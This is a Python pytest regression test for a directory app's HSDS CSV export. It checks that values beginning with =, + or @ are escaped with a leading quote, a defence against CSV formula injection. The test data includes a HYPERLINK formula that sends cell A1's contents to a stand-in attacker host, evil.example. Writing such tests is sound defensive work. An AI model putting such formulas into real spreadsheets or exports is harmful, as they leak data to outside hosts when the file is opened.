"""Issue 12, finding 12: the HSDS CSV export writes a service named as a formula as text."""

from __future__ import annotations

import csv
import io

import pytest

from commonweal.directory import exports
from commonweal.directory.models import DirectoryOrganisation, Service

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


@pytest.mark.django_db
def test_the_hsds_csv_services_table_quotes_a_formula():
    owner = DirectoryOrganisation.objects.create(name="@Evil Org")
    Service.objects.create(organisation=owner, name=FORMULA, description="+1 then -1")
    tables = exports.csv_tables()
    services = list(csv.DictReader(io.StringIO(tables["services"])))
    assert [(row["name"], row["description"]) for row in services] == [("'" + FORMULA, "'+1 then -1")]
    organisations = list(csv.DictReader(io.StringIO(tables["organizations"])))
    assert [row["name"] for row in organisations] == ["'@Evil Org"]
